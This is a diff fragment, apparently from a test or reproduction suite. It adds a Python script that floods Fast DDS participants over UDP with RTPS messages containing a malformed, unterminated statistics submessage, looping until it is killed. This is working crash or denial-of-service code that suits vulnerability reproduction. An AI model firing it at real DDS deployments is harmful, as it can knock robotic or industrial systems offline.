@@ -285,3 +285,19 @@ packets(sys.argv[1], count)
 print(json.dumps({"twice": sum(1 for n in seen.values() if n > 1), "once": len(seen)}))
 """
 """Count datagrams of a source that arrived more than once."""
+
+ABORTING = """
+import itertools, socket, struct, sys, time
+
+domain, addresses = int(sys.argv[1]), sys.argv[2:]
+header = b"RTPS\\2\\2\\1\\x0f" + bytes(range(12))
+pads = struct.pack("<BBH4x", 1, 1, 4) * 500
+statistics = struct.pack("<BBH56x4x", 0x80, 1, 56)  # four bytes follow it
+out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for message in itertools.cycle((header + statistics, header + pads + statistics)):
+    for address in addresses:
+        for port in range(7410, 7416):
+            out.sendto(message, (address, port + 250 * domain))
+    time.sleep(0.01)
+"""
+"""Send Fast DDS participants messages with a statistics submessage that does not end them, until it is killed."""
